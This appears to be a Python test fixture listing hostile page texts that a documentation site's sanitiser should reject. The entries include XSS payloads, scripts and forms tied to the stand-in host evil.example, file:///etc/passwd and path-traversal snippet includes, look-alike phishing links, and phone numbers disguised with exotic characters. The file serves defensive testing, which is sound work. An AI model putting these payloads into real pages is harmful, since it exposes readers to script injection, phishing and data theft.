"""Attacks that a hostile pull request might put into a page, and harmless look-alikes.

`ATTACKS` are page texts by kind; each would run code, load something, mislead a reader or hide
something. `FRONT_MATTER` are attacks in front matter. `LOOK_ALIKES` are harmless, and so are
`ADDRESSES` on pages for contributors.
"""

EVIL = "https://evil.example"

ATTACKS: dict[str, str] = {
    # ---- tags and values that parsers read differently ----
    "value with a script, in the header of a fence": (
        '~~~ { .text title="a>日本語<script>alert(1)</script>" }\ncode\n~~~'
    ),
    "value with a script, as an option of a fence": (
        '```text title="a>日本語<script>alert(1)</script>"\ncode\n```'
    ),
    "value with a card, in the header of a fence": (
        '~~~ { .text title="a>番号<a href=tel:0312345678>0312345678</a>" }\ncode\n~~~'
    ),
    "value with entities, in the header of a fence": (
        '~~~ { .text title="&lt;script&gt;alert(1)" }\ncode\n~~~'
    ),
    "value that opens a comment": (
        '~~~ { .text title="<!--" }\na\n~~~\n\n~~~ { .text title="-->" }\nb\n~~~'
    ),
    "value with a sign, in a list of a link": '[a](index.md){: title="a>b<script>" }',
    "value with a sign, in a list of a paragraph": 'a\n{: title="a<b" }',
    "value with a sign, in a tag": '<span title="a>b" lang="en">a</span>',
    "value with a grave accent": '<span title="`" lang="en">a</span>',
    "value with an equal sign": '[a](index.md){: title="a=b" }',
    "tag with two equal signs": (
        "<div title==\"id class=b=lang='c onclick=alert(1)' d' open\">a</div>"
    ),
    "tag with a value without quotes": "<span lang=en title=a>a</span>",
    "tag with single quotes": "<span lang='en'>a</span>",
    "tag without a space between attributes": '<span lang="en"title="a">a</span>',
    "tag with a slash between attributes": '<span lang="en"/title="a">a</span>',
    "tag with a space that is none": '<span lang="en"\u3000title="a">a</span>',
    "tag with a space before the value": '<span lang= "en">a</span>',
    "tag with a space after the name of an attribute": '<span lang ="en">a</span>',
    "tag with a quotation mark in a name": '<span lang"x="en">a</span>',
    "tag with a sign in a name": '<span a<b="en">a</span>',
    # ---- internal classes that text must not use ----
    "button of the theme": "[a](index.md){ .md-button .md-button--primary }",
    "class of the foot bar": '<div class="page-foot">\n<b>Pay now</b>\n</div>',
    "class of the first links": "Pay now\n{: .urgent }",
    "class of a contact's card": "0120\n{: .contact-card }",
    "class of a number": "[188](index.md){: .contact-number }",
    "class of a notice of the build": '<div class="page-notice" markdown>\n\nAll right.\n\n</div>',
    "class that only screen readers hear": "Do not pay.\n{: .search-status }",
    "class that hides a switch": "Do not pay.\n{: .menu-toggle }",
    "class that is not printed": "Do not pay.\n{: .not-printed }",
    "class among others": '<div class="warning search-status">\n<b>a</b>\n</div>',
    "type of an admonition that is hidden": '!!! search-status "Careful"\n\n    Do not pay.',
    "two types of an admonition": '!!! warning search-status "Careful"\n\n    Do not pay.',
    "class of a fence": "~~~ { .text .page-foot }\nPay now\n~~~",
    # ---- disguised telephone numbers ----
    "telephone number in code": "`0120-000-000`",
    "telephone number in a fence": "```\n0120-000-000\n```",
    "telephone number in an indented block": "a\n\n    0120-000-000",
    "telephone number in a table": "| a | b | c |\n| --- | --- | --- |\n| 0120 | 000 | 000 |",
    "telephone number with dots": "0120.000.000",
    "telephone number with middle dots": "0120・000・000",
    "telephone number with full-width middle dots and digits": "０１２０・０００・０００",
    "telephone number with half-width middle dots": "0120･000･000",
    "telephone number with slashes": "0120/000/000",
    "telephone number with underscores": "0120_000_000",
    "telephone number with commas": "0120,000,000",
    "telephone number with spaced digits": "0 1 2 0 0 0 0 0 0 0",
    "telephone number with long spaces": "0120\u3000000\u3000000",
    "telephone number with O for 0": "O120-OOO-OOO",
    "telephone number of keys": "0\ufe0f\u20e31\ufe0f\u20e32\ufe0f\u20e30\ufe0f\u20e3"
    + "0\ufe0f\u20e3" * 6,
    "telephone number in circles": "⓪①②⓪⓪⓪⓪⓪⓪⓪",
    "telephone number in Arabic digits": "٠١٢٠-٠٠٠-٠٠٠",
    "telephone number in Devanagari digits": "०१२००००००००",
    "telephone number in kanji": "〇一二〇―〇〇〇―〇〇〇",
    "telephone number in mathematical digits": "𝟎𝟏𝟐𝟎-𝟎𝟎𝟎-𝟎𝟎𝟎",
    "telephone number from abroad, with dots": "+81.3.0000.0000",
    "telephone number in the title of a link": '[a](index.md "0120-000-000")',
    "telephone number in raw HTML": "<div>\n0120.000.000\n</div>",
    "telephone link to a short number": "[188](tel:119)",
    "telephone link to a code": "[188](tel:*21*0120000000)",
    "message link to a short number": "[188](sms:188)",
    # ---- invisible text ----
    "blank of Braille": "a\u2800b",
    "space of Ogham": "a\u1680b",
    "sign of a score": "a\U0001d173b",
    # ---- elements that run or load ----
    "script": "<script>alert(1)</script>",
    "script, capital letters": "<ScRiPt>alert(1)</sCrIpT>",
    "script from elsewhere": f'<script src="{EVIL}/a.js"></script>',
    "script inside a paragraph": "Text <script>alert(1)</script> text.",
    "script in a list": "- one <script>alert(1)</script>\n- two",
    "script in a table": "| a | b |\n| --- | --- |\n| <script>alert(1)</script> | c |",
    "script in a quotation": "> <script>alert(1)</script>",
    "script in an admonition": "!!! note\n\n    <script>alert(1)</script>",
    "script in a title of an admonition": '!!! note "a <script>alert(1)</script>"\n\n    a',
    "script in a heading": "## a <script>alert(1)</script> {#a}",
    "script in a footnote": "a[^1]\n\n[^1]: b <script>alert(1)</script>",
    "script in a description": "a\n:   b <script>alert(1)</script>",
    "script in Markdown in HTML": "<div markdown>\n\n<script>alert(1)</script>\n\n</div>",
    "script behind a slash": "<script/x>alert(1)</script>",
    "script with a line end in its tag": "<script\n>alert(1)</script>",
    "script in a drawing": "<svg><script>alert(1)</script></svg>",
    "script that is no longer escaped": "\\<script>alert(1)\\</script>",
    "script below a heading that takes its line end": "## a\\\n    <script>alert(1)</script>",
    "script below a line of another space": "a\n\n\u3000\n    <script>alert(1)</script>",
    "script in a heading's braces": "## a {#a}<script>alert(1)</script>}",
    "script in an open item": "<li>\n\n    <script>alert(1)</script>",
    "address below an element that is running text": (
        "<p markdown>\n    [a](https://office.example@evil.example/)\n</p>"
    ),
    "script behind a comment that a browser ends": "<!--> <script>alert(1)</script> -->",
    "script behind a comment of two hyphens": "<!---> <script>alert(1)</script> -->",
    "script behind an odd end of a comment": "<!-- a --!> <script>alert(1)</script> -->",
    "comment that a browser ends, inside a line": "a <!--><img src=x onerror=alert(1)> --> b",
    "script in an instruction": "<? > <script>alert(1)</script> ?>",
    "script in a declaration": "<!a > <script>alert(1)</script>",
    "script in character data": "<![CDATA[ > <script>alert(1)</script> ]]>",
    "picture that fails": '<img src="x" onerror="alert(1)">',
    "picture without a space": '<img src="x"onerror="alert(1)">',
    "picture with slashes": "<img/src=x/onerror=alert(1)>",
    "picture whose tag is not closed": '<img src="x" onerror="alert(1)"',
    "picture, attribute in capitals": '<IMG SRC=x ONERROR="alert(1)">',
    "picture, value as entities": '<img src="x" onerror="&#97;lert(1)">',
    "picture with a line end": '<img src="x"\nonerror="alert(1)">',
    "drawing that loads": '<svg onload="alert(1)"></svg>',
    "drawing, without a space": "<svg/onload=alert(1)>",
    "animation": '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"></svg>',
    "formula": f'<math><maction actiontype="statusline" xlink:href="{EVIL}">a</maction></math>',
    "body": '<body onload="alert(1)">',
    "frame": f'<iframe src="{EVIL}/"></iframe>',
    "frame with its own text": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "frame that runs": '<iframe src="javascript:alert(1)"></iframe>',
    "object": f'<object data="{EVIL}/a.swf"></object>',
    "embedded": f'<embed src="{EVIL}/a.swf">',
    "applet": f'<applet code="{EVIL}/a.class"></applet>',
    "film": f'<video src="{EVIL}/a.mp4" autoplay></video>',
    "film that fails": '<video><source onerror="alert(1)"></video>',
    "sound": f'<audio src="{EVIL}/a.mp3" autoplay></audio>',
    "form": f'<form action="{EVIL}/"><input name="number"><button>Send</button></form>',
    "button that runs": '<button onclick="alert(1)">Press</button>',
    "field that takes the focus": '<input autofocus onfocus="alert(1)">',
    "choice": '<select autofocus onfocus="alert(1)"></select>',
    "text field": "<textarea>",
    "refresh": f'<meta http-equiv="refresh" content="0; url={EVIL}/">',
    "base": f'<base href="{EVIL}/">',
    "style sheet": f'<link rel="stylesheet" href="{EVIL}/a.css">',
    "prefetched": f'<link rel="prefetch" href="{EVIL}/">',
    "style": f"<style>@import '{EVIL}/a.css';</style>",
    "style that hides": "<style>body{display:none}</style>",
    "fold that runs": '<details open ontoggle="alert(1)"><summary>a</summary></details>',
    "running text": '<marquee onstart="alert(1)">a</marquee>',
    "template": "<template><script>alert(1)</script></template>",
    "without scripts": f'<noscript><img src="{EVIL}/a.png"></noscript>',
    "element of its own": "<x-a onclick=alert(1)>a</x-a>",
    "dialog": "<dialog open>Pay now</dialog>",
    "frame set": f'<frameset><frame src="{EVIL}/"></frameset>',
    "plain text to the end": "<plaintext>",
    "heading in HTML": "<h2>Office of the city</h2>",
    "article closed": "</article></main>",
    "container closed": "</div></div></div>",
    "container never closed": '<div class="a">',
    # ---- attributes ----
    "style attribute": '<div style="position:fixed;inset:0;background:#fff">Pay now</div>',
    "style in an attribute list": 'Pay now\n{: style="position:fixed" }',
    "style in an inline list": '*Pay now*{: style="position:fixed" }',
    "handler on a paragraph": 'a\n{: onmouseover="alert(1)" }',
    "handler on a heading": '## a {#a onmouseover="alert(1)"}',
    "handler on a link": '[a](index.md){: onclick="alert(1)" }',
    "handler on a picture": '![a](assets/door.png){: onload="alert(1)" }',
    "handler on a list item": '- a\n{: onclick="alert(1)" }',
    "handler in a table cell": '| a |\n| --- |\n| b {: onclick="alert(1)" } |',
    "handler on a fence": '``` { .text onclick="alert(1)" }\na\n```',
    "handler without quotes": "a\n{: onclick=alert(1) }",
    "handler in capitals": 'a\n{: ONCLICK="alert(1)" }',
    "handler behind a brace": 'a\n{: title="}" onclick="alert(1)" }',
    "target in an attribute list": '[a](index.md){: href="javascript:alert(1)" }',
    "class of the theme": "Pay now\n{: .md-overlay }",
    "class of the theme in HTML": '<div class="a md-dialog">Pay now</div>',
    "type of an admonition": '!!! md-overlay "Pay now"\n\n    a',
    "hidden": "<p hidden>a</p>",
    "other direction": '<span dir="rtl">elpmaxe.ytic</span>',
    "asked with every click": f'<a href="index.html" ping="{EVIL}/">a</a>',
    "id of the theme": '<pre id="__config">{"base":"https://evil.example/"}</pre>',
    "id of the theme, on a heading": "## a {#__config}",
    "name that stands for a function": '<img src="assets/door.png" name="querySelector">',
    "class of a drawing that is loaded": '<pre class="mermaid"><code>graph TD; a-->b</code></pre>',
    "class of a part of the theme": "Pay now\n{: .headerlink }",
    "another host in raw HTML": f'<a href="{EVIL}/">www.office.example</a>',
    # ---- addresses ----
    "javascript": "[a](javascript:alert(1))",
    "javascript in capitals": "[a](JAVASCRIPT:alert(1))",
    "javascript, mixed": "[a](jAvAsCrIpT:alert(1))",
    "javascript, entity": "[a](java&#115;cript:alert(1))",
    "javascript, hexadecimal entity": "[a](&#x6A;avascript:alert(1))",
    "javascript, named entity": "[a](javascript&colon;alert(1))",
    "javascript, tab": "[a](java\tscript:alert(1))",
    "javascript, tab as an entity": "[a](java&Tab;script:alert(1))",
    "javascript, line end as an entity": '<a href="java&NewLine;script:alert(1)">a</a>',
    "javascript, control character": "[a](\x01javascript:alert(1))",
    "javascript, in angle brackets": "[a](<javascript:alert(1)>)",
    "javascript, with a title": '[a](javascript:alert(1) "title")',
    "javascript, by a label": "[a][b]\n\n[b]: javascript:alert(1)",
    "javascript, by a short label": "[a][]\n\n[a]: javascript:alert(1)",
    "javascript, in HTML": '<a href="javascript:alert(1)">a</a>',
    "javascript, in HTML, white space": '<a href=" javascript:alert(1)">a</a>',
    "javascript, in HTML, no quotes": "<a href=javascript:alert(1)>a</a>",
    "javascript, picture": "![a](javascript:alert(1))",
    "javascript, comment": "[a](javascript://city.example/%0aalert(1))",
    "vbscript": "[a](vbscript:msgbox(1))",
    "data": "[a](data:text/html,<script>alert(1)</script>)",
    "data, base64": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data, picture": "![a](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    "file": "[a](file:///etc/passwd)",
    "blob": "[a](blob:https://city.example/1)",
    "view-source": "[a](view-source:https://city.example/)",
    "intent": "[a](intent://evil.example#Intent;scheme=https;end)",
    "picture from elsewhere": f"![a]({EVIL}/a.png)",
    "picture from elsewhere, by a label": f"![a][b]\n\n[b]: {EVIL}/a.png",
    "picture from elsewhere, no scheme": "![a](//evil.example/a.png)",
    "picture from elsewhere, backslashes": "![a](\\\\\\\\evil.example/a.png)",
    "picture from elsewhere, in HTML": f'<img src="{EVIL}/a.png" alt="a">',
    "picture from elsewhere, one of many": f'<img srcset="assets/door.png 1x, {EVIL}/a.png 2x">',
    "picture from elsewhere, by a short label": f"![a]\n\n[a]: {EVIL}/a.png",
    "picture from elsewhere, label on two lines": f"![a][b]\n\n[b]:\n    {EVIL}/a.png",
    "picture from elsewhere, no label": f"![][]\n\n[]: {EVIL}/a.png",
    "javascript behind a rule": "<hr>[a](javascript:alert(1))",
    "picture of a link": f"[![a]({EVIL}/a.png)](index.md)",
    "another host shown": f"[www.office.example]({EVIL}/)",
    "another host shown, with its scheme": f"[https://office.example/]({EVIL}/)",
    "another host shown, in bold": f"[**office.example**]({EVIL}/)",
    "another host shown, full width": f"[ｐｏｌｉｃｅ．ｅｘａｍｐｌｅ]({EVIL}/)",
    "another host shown, escaped": f"[office\\.example]({EVIL}/)",
    "another host shown, in pieces": f"[office.*example*]({EVIL}/)",
    "another host shown, ideographic full stop": f"[office。example]({EVIL}/)",
    "another host shown, longer": "[office.example](https://office.example.evil.example/)",
    "another host shown, by a label": f"[office.example][b]\n\n[b]: {EVIL}/",
    "punycode": "[a](https://xn--plce-5na8b.example/)",
    "letters that look alike": "[a](https://роlice.example/)",
    "name before the host": "[a](https://office.example@evil.example/)",
    "name before the host, coded": "[a](https://office.example%2f@evil.example/)",
    "number for a host": "[a](https://203.0.113.7/)",
    "hexadecimal host": "[a](https://0xcb007107/)",
    "whole number for a host": "[a](https://3405803783/)",
    "host of version 6": "[a](https://[2001:db8::1]/)",
    "no scheme": "[a](//evil.example/)",
    "slash and backslash": "[a](/\\evil.example/)",
    "scheme and backslashes": "[a](https:\\\\evil.example/)",
    "scheme and nothing": "[a](https:evil.example)",
    "shortener": "[a](https://bit.ly/a)",
    "shortener, autolink": "<https://t.co/a>",
    # ---- characters ----
    "zero width space": "pass\u200bword",
    "zero width joiner": "pass\u200dword",
    "word joiner": "pass\u2060word",
    "mark inside": "pass\ufeffword",
    "soft hyphen": "pass\u00adword",
    "right to left override": "a \u202egnp.exe",
    "right to left isolate": "a \u2067b\u2069",
    "right to left mark": "a\u200fb",
    "tag characters": "a\U000e0041\U000e0042",
    "escape": "a\x1b[31mb",
    "backspace": "a\x08b",
    "form feed": "a\x0cb",
    "line separator": "a\u2028b",
    "filler": "a\u3164b",
    "private use": "a\ue000b",
    "invisible, as an entity": "pass&#8203;word",
    "invisible, as a named entity": "pass&ZeroWidthSpace;word",
    "right to left, as an entity": "a &#x202e;b",
    # ---- numbers, files ----
    "telephone number": "電話は03-1234-9999です。",
    "telephone number, full width": "電話は０３－１２３４－９９９９です。",
    "telephone number, brackets": "電話は(03)1234-9999です。",
    "telephone number, mobile": "電話は090-1234-5678です。",
    "telephone number, of another country": "Call +1 202 555 0100 now.",
    "telephone number, spaces": "電話は03 1234 9999です。",
    "telephone number, brackets around the middle": "電話は０３（１２３４）９９９９です。",
    "telephone number, raw HTML": "<p>電話は03-1234-9999です。</p>",
    "telephone number, in a title": '<span title="03-1234-9999">ここ</span>です。',
    "telephone link": "[188](tel:0312349999)",
    "telephone link, coded": "[188](tel:%30312349999)",
    "message link": "[188](sms:+81312349999)",
    "snippet": '--8<-- "../../../etc/passwd"',
    "snippet of another form": ';--8<-- "mkdocs.yml"',
    # ---- external URLs on a page for readers ----
    "address of its own": f"[a]({EVIL}/)",
    "telephone number, told in a sentence": "Zero-five-zero, four zeros, then one two three four.",
    "telephone number, told in figures": "Ring 0120 then 444 and then 113.",
    "telephone number, told with doubles": "Call zero one two zero, triple four, double one three.",
    "telephone number, told in hundreds": (
        "Zero, one hundred twenty, four hundred forty-four, one hundred thirteen."
    ),
    "telephone number, words and figures in one": "Call **0**one**2**oh **444** triple-one three.",
    "telephone number, a letter between each two": "Call 0a1b2c0 d 4e4f4 g 1h1i3.",
    "telephone number, letters of the keys": "Call 1-800-REFUNDS.",
    "telephone number, a digit on each line": "- 0\n- 1\n- 2\n- 0\n- 4\n- 4\n- 4\n- 1\n- 1\n- 3",
    "telephone number, in the cells of a table": (
        "| Desk | a | b | c |\n| --- | --- | --- | --- |\n"
        "| Refunds | 01 | 20 | 44 |\n| Then | 41 | 13 | |"
    ),
    "telephone number, halves in two paragraphs": (
        "The first half is 0120.\n\nThe second half is 444-113."
    ),
    "address of its own, by its number": "Open 198.51.100.7 in your browser.",
    "address of its own, by its long number": "Open [2001:db8::7] in your browser.",
    "address of its own, in its coded form": "Go to xn--80ak6aa92e.xn--p1ai now.",
    "address of its own, in Japanese letters": "Go to 返金.みんな now.",
    "address of its own, with a Japanese stop": "返金。みんな/form を開きます。",
    "address of its own, in two pieces": "Go to **refund-jp** . **com** now.",
    "address of its own, said": "Go to refund dash jp dot com now.",
    "address of its own, letter by letter": "Type r, e, f, u, n, d, dot, c, o, m.",
    "warning as a reading": "<ruby>More<rt>Do not tell them any number at all.</rt></ruby>",
    "warning as a reading of a reading": "<ruby>a<rt><ruby>b<rt>Stop</rt></ruby></rt></ruby>",
    "section that is closed": (
        "## What not to do {#do-not}\n\n<details markdown><summary>Credits</summary>\n\n"
        "- Do not call.\n\n</details>"
    ),
    "rules that push the text down": "---\n\n" * 60,
    "rows that push the text down": "| a | b |\n| --- | --- |\n" + "| | |\n" * 60,
    "columns that push the text aside": "| a " * 30
    + "|\n"
    + "| --- " * 30
    + "|\n"
    + "| b " * 30
    + "|",
    "code that pushes the text down": "```text\n" + "a\n" * 150 + "```",
    "a code to scan, of blocks": "```text\n" + "█▀▄ ▀█▄▀ █▀▀█\n" * 12 + "```",
    "words far to the right": f"They are kind.{' ' * 400}Then pay.",
    "address of its own, of a host of the data": "[a](https://city.example/elsewhere)",
    "address of its own, that leads on": "[a](https://www.google.example/url?q=https://evil.example/)",
    "address of its own, as a link": f"<{EVIL}/>",
    "address of its own, by a label": f"[a][b]\n\n[b]: {EVIL}/",
    "address of its own, by a label with a title": f'[a][b]\n\n[b]: {EVIL}/ "city.example"',
    "address of its own, capital letters": "[a](HTTPS://EVIL.EXAMPLE/)",
    "address of its own, no scheme": "[a](//evil.example/)",
    "address of its own, one slash": "[a](https:/evil.example/)",
    "address of its own, no slash": "[a](https:evil.example)",
    "address of its own, backslashes": "[a](https:\\\\evil.example/)",
    "address of its own, with a port": f"[a]({EVIL}:8443/)",
    "address of its own, with a name": "[a](https://office@evil.example/)",
    "address of its own, in Japanese": "[a](https://役所.example/)",
    "address of its own, with a full stop": "[a](https://evil.example./)",
    "address of its own, a tab in it": "[a](https://ev&Tab;il.example/)",
    "address of its own, in angle brackets": f"[a](<{EVIL}/a b>)",
    "address of its own, in a heading": f"## [a]({EVIL}/) {{#b}}",
    "address of its own, in a table": f"| a |\n| --- |\n| [b]({EVIL}/) |",
    "footnote with an address of its own": f"a[^1]\n\n[^1]: See [b]({EVIL}/)",
    "address of its own, in a description": f"a\n:   [b]({EVIL}/)",
    "address of its own, in a quotation": f"> [a]({EVIL}/)",
    "address of its own, in HTML": f'<a href="{EVIL}/">a</a>',
    "address of its own, over FTP": "[a](ftp://evil.example/)",
    "address of its own, of a messenger": "[a](https://line.evil.example/ti/p/x)",
    "mailbox": "[a](mailto:desk@evil.example)",
    "mailbox, with a text": "[a](mailto:desk@evil.example?subject=a&body=b)",
    "mailbox, as a link": "<desk@evil.example>",
    "mailbox, capital letters": "[a](MAILTO:desk@evil.example)",
    "mailbox in HTML": '<a href="mailto:desk@evil.example">a</a>',
    # ---- link texts that contradict their target ----
    "another number in the text": "[03-9999](contact:front-desk)",
    "another number in the text, short": "[#9876](contact:front-desk)",
    "another number in the text, bold": "[**9876**](contact:front-desk)",
    "another number in the text, full width": "[＃９８７６](contact:front-desk)",
    "another number in the text, among words": "[案内 9876](contact:front-desk)",
    "another number in the text, in circles": "[⑨⑧⑦⑥](contact:front-desk)",
    "another number in the text, in kanji": "[九八七六](contact:front-desk)",
    "another number in the text, spaced": "[9 8 7 6](contact:front-desk)",
    "another number in the text, in entities": "[&#57;876](contact:front-desk)",
    "another host in the text": "[evil.example](source:library-rules)",
    "another host in the text, with its scheme": "[https://evil.example/](source:library-rules)",
    "another host in the text, full width": "[ｅｖｉｌ．ｅｘａｍｐｌｅ](source:library-rules)",
    "another host in the text, of the data": "[city.example](source:library-rules)",
    "another host in the text, looking alike": "[librаry.example](source:library-rules)",
    # ---- attributes that are not allowed on a tag ----
    **{
        f"attribute {name}": f"<p {name}>a</p>"
        for name in (
            'accesskey="a"',
            'aria-hidden="true"',
            'aria-label="Office"',
            "autofocus",
            'contenteditable="true"',
            'data-contact="front-desk"',
            'data-md-component="search"',
            'dir="rtl"',
            'download="a.exe"',
            'draggable="true"',
            'enterkeyhint="send"',
            "hidden",
            "inert",
            'is="x-a"',
            'itemprop="telephone"',
            'nonce="a"',
            'popover="auto"',
            'popovertarget="a"',
            'role="alert"',
            'slot="a"',
            'tabindex="1"',
            'translate="no" hidden',
            'part="a"',
            'property="og:url"',
            'form="a"',
            'action="a"',
            'background="a.png"',
        )
    },
    "attribute in a list, hidden": "a\n{: hidden=1 }",
    "attribute in a list, role": 'a\n{: role="alert" }',
    "attribute in a list, data": 'a\n{: data-open="mon-sun 00:00-24:00" }',
    "link whose file is saved": '<a href="index.html" download="office.exe">a</a>',
    "link that opens anew": '<a href="index.html" target="_blank">a</a>',
    # ---- internal classes ----
    **{
        f"class {name}": f"Pay now\n{{: .{name} }}"
        for name in (
            "action-bar",
            "contact-card__name",
            "contact-link",
            "offline-notice",
            "page-reviewed",
            "site-footer",
            "skip-link",
            "source-list",
            "term",
            "urgent__link",
            "warning-hidden",
            "admonition-title",
            "highlight",
            "headerlink",
            "printout__title",
            "Warning",
        )
    },
    # ---- numbers ----
    **{
        f"telephone number, {name}": text
        for name, text in {
            "in bold parts": "0120-**000**-000",
            "with a tag inside": "0120-<b>000</b>-000",
            "with an entity": "0120&#45;000&#45;000",
            "with digits as entities": "&#48;120-000-000",
            "on two lines": "0120-\n000-000",
            "with a comment inside": "0120-<!-- a -->000-000",
            "escaped": "0120\\-000\\-000",
            "in brackets": "（0120）000-000",
            "in a link to a page": "[0120-000-000](index.md)",
            "in a heading": "## 0120-000-000 {#a}",
            "in a title of a warning": '!!! warning "0120-000-000"\n\n    a',
            "in the words of a picture": "![0120-000-000](assets/door.png)",
            "in a description": "a\n:   0120-000-000",
            "in a note": "a[^1]\n\n[^1]: 0120-000-000",
            "with tildes": "0120~000~000",
            "with a wave": "0120〜000〜000",
            "with colons": "0120:000:000",
            "with semicolons": "0120;000;000",
            "with bars": "0120|000|000",
            "with plus signs": "0120+000+000",
            "with equal signs": "0120=000=000",
            "with stars": "0120\\*000\\*000",
            "with arrows": "0120→000→000",
            "with の": "0120の000の000",
            "from abroad": "+81 120 000 000",
            "from abroad, with 00": "0081-120-000-000",
            "of an area": "03(0000)0001",
            "of a mobile": "090 0000 0001",
            "of IP": "050-0000-0001",
            "in subscript": "₀₁₂₀-₀₀₀-₀₀₀",
            "in superscript": "⁰¹²⁰-⁰⁰⁰-⁰⁰⁰",
            "in daiji": "零壱弐零-零零零-零零零",
        }.items()
    },
    # ---- invisible characters ----
    **{
        f"sign {ord(sign):04X}": f"a{sign}b"
        for sign in "\u034f\u061c\u115f\u1160\u17b4\u180e\u2028\u202e\u2066\u2061\u3164\ufeff\uffa0"
        "\ufff9\ufffc\U0001bca0\U000e0041\ue000\u0378\x1b\x7f\x85"
    },
    # ---- from an independent review ----
    "telephone number, two signs between groups": "Call 0120 - 444 - 113.",
    "telephone number, comma and space": "Call 0120, 444, 113.",
    "telephone number, double hyphen": "Call 0120--444--113.",
    "telephone number, ellipsis and space": "Call 0120 … 444 … 113.",
    "telephone number, slash spaces": "Call 0120 / 444 / 113.",
    "telephone number, in corner brackets": "番号は「0120」「444」「113」です。",
    "telephone number, letters between": "Call 0120x444x113.",
    "telephone number, kana words": "番号はゼロイチニーゼロ、ヨンヨンヨン、イチイチサンです。",
    "telephone number, kana English": "ゼロスリー、ワンツーセブンワン、エイトナインツーワン。",
    "telephone number, english words": "Call zero one two zero, four four four, one one three.",
    "telephone number, white circle for zero": "番号は○一二○の四四四の一一三です。",
    "telephone number, letter l for one": "Call 0l20-444-ll3.",
    "telephone number, capital I": "Call 0I20-444-II3.",
    "telephone number, cyrillic o": "Call О120-444-113 now.",
    "telephone number, maqaf reverses": "Call 5678־1234־03 now.",
    "telephone number, maqaf alone": "Call 113־444־0120 now.",
    "telephone number, bdi arabic": "<bdi>ا 5678 1234 03</bdi>",
    "telephone number, arabic comma": "Call 0120، 444، 113 now.",
    "telephone number, combining underline and hyphen": "Call 0̲1̲2̲0̲-̲4̲4̲4̲-̲1̲1̲3̲.",
    "telephone number, combining cedilla only": "Call 0̧1̧2̧0̧4̧4̧4̧1̧1̧3̧.",
    "telephone number, in ol start 0+8": 'Dial zero, then\n\n<ol start="12044411"><li>3</li></ol>',
    "telephone number, br": "0120<br>444<br>113",
    "telephone number, wbr": "0120-<wbr>444-<wbr>113",
    "telephone number, sup sub": "0120<sub> </sub>444<sub> </sub>113",
    "telephone number, toll without zero": "Dial 0 first, then 120-444-113.",
    "telephone number, parenthesised digits": "Call 0⑴⑵0 ⑷⑷⑷ ⑴⑴⑶.",
    "telephone number, roman": "Call 0ⅠⅡ0 ⅣⅣⅣ ⅠⅠⅢ.",
    "telephone number, circled kanji": "番号は〇㊀㊁〇の㊃㊃㊃の㊀㊀㊂です。",
    "telephone number, in heading id": "## Call us {#0120-444-113}",
    "telephone number, star code": "Press \\*21\\*0312 then 345678#.",
    "telephone number, 81 without plus": "Call 81-120-444-113.",
    "telephone number, in link text to page": "[0120 - 444 - 113](index.md)",
    "telephone number, del inside": "0120<del>9</del>-444-<del>9</del>113",
    "telephone number, em dash spaces": "Call 0120 — 444 — 113.",
    "telephone number, abbr between": '0120<abbr title="a">-</abbr>444<abbr title="a">-</abbr>113',
    "telephone number, letters in two groups": "Call 0120-HELP-NOW today.",
    "telephone number, code of a country without a plus": "Call 1 900 555 0199.",
    "telephone number, in pairs": "Call 34 56 78 90 now.",
    "telephone number, o with a stroke": "Call Ø5Ø 1234 5678.",
    "telephone number, kanji that look like 0": "口5口 1234 5678です。",
    "telephone number, behind the sign of a key": "Dial #7777 now.",
    "telephone number, behind the sign of a key between words": "今すぐ#7777に電話します。",
    "telephone number, with q element": "<q>0120</q><q>444</q><q>113</q>",
    "fresh: host plain with scheme": "Open https://evil.example/refund now.",
    "fresh: host in code": "`https://evil.example/refund`",
    "fresh: mailbox plain text": "Write to desk@evil.example now.",
    "fresh: mailbox in code": "`desk@evil.example`",
    "fresh: mailbox full width": "Write to desk＠evil．example now.",
    "fresh: LINE id": "LINEで @sagi-soudan を追加してください。",
    "fresh: telegram handle": "Write to @refund_japan on Telegram.",
    "fresh: host in say words": (
        '!!! say "To your bank"\n\n    Open https://evil.example/refund now.\n    {: .say-words }'
    ),
    "fresh: host in image alt": "![https://evil.example/](assets/door.png)",
    "fresh: host in title attribute": '[a](index.md "https://evil.example/")',
    "fresh: class of review line in dt": "Checked on 26 November 2026 {: .page-reviewed }\n:   a",
    "fresh: class of review line in td without bars": (
        "a | b\n--- | ---\nChecked today {: .page-reviewed } | b"
    ),
    "fresh: class of source list in dt": "Official {: .source-list }\n:   a",
    "fresh: class of heading link in td": (
        "a | b\n--- | ---\nCourt papers differ {: .headerlink } | b"
    ),
    "fresh: class of the theme in dt": "a {: .md-overlay }\n:   a",
    "fresh: class in th without bars": "a {: .footnote } | b\n--- | ---\na | b",
    "fresh: class in list item in dd": "a\n:   b {: .footnote }",
    "fresh: class by class=": "a\n{: class=page-reviewed }",
    "fresh: cite elsewhere": '<blockquote cite="https://evil.example/">a</blockquote>',
    "fresh: name of another contact": "[案内](contact:night-desk)",
    "fresh: number of another contact with a word": "[９8 7 6](contact:front-desk)",
    "fresh: contact text with letters": "[#98l6](contact:night-desk)",
    "fresh: text names host with slash": "[city․example](source:library-rules)",
    "fresh: text host with bold dot": "[city<b>.</b>example](source:library-rules)",
    "fresh: look-alike letters in words": "Dо nоt pаy.",
    "fresh: look-alike kanji radicals": "⼀⽆⾒です。",
    "fresh: combining grapheme": "pậ̣y",
    "fresh: hangul jamo": "aᆨᅠb",
    "fresh: critic marks": "{--Do not--} pay {++now++}",
    "fresh: fence line numbers": '```{ .text linenums="1" hl_lines="1" }\na\n```',
    "fresh: class in td of an indented table": (
        "  | a | b |\n  | --- | --- |\n  | Court papers differ {: .headerlink } | b |"
    ),
    "fresh: class in td inside an admonition": (
        '!!! warning "a"\n\n    a | b\n    --- | ---\n    Court papers differ {: .headerlink } | b'
    ),
    "fresh: class in td inside a quotation": (
        "> | a | b |\n> | --- | --- |\n> | Court papers {: .headerlink } | b |"
    ),
    "fresh: class behind a second brace": "a\n{: lang=en } .page-reviewed }",
    "fresh: id of a config in dt": "Official {: #__config }\n:   a",
    "telephone number, between arabic letters": "Call (ا 5678 1234 03 ا) now.",
    "telephone number, bdi maqaf": "Call <bdi>־5678־1234־03</bdi> now.",
    "telephone number, hebrew bar": "Call <bdi>׀5678 1234 03</bdi> now.",
    "telephone number, greek omicron": "Call ο120-444-113 now.",
    "telephone number, big circle": "番号は◯120-444-113です。",
